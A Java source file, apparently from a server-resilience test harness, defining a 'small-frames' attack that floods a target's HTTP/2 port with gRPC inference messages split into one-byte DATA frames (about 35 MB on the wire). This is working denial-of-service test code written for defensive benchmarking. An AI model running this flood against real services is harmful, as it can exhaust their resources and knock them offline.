package dev.isthmus.bench.attack;

import dev.isthmus.bench.http2.FrameBytes;
import java.io.IOException;

/** Ten gRPC messages in DATA frames of one byte: 35 MB on the wire. */
record SmallFrames() implements Attack {
    private static final int STREAMS = 10;
    private static final int MESSAGE = 350_000;

    @Override
    public String name() {
        return "small-frames";
    }

    @Override
    public AttackResult play(AttackTarget target) throws IOException, InterruptedException {
        byte[] message = Messages.infer("m", "", MESSAGE / 4 - 20);
        byte[] framed = FrameBytes.message(false, message.length, message);
        AttackResult.Counts counts = new AttackResult.Counts();
        try (Http2 wire = new Http2(target.http2Port())) {
            for (int i = 0; i < STREAMS && !wire.wentAway(); i++) {
                int stream = 2 * i + 1;
                wire.write(FrameBytes.call(stream, "ModelInfer"), 2_000);
                wire.write(Messages.frames(stream, framed), 5_000);
            }
            wire.await(() -> wire.endedStreams() == STREAMS, 10_000);
            wire.count(counts);
            return counts.seen(true);
        }
    }
}
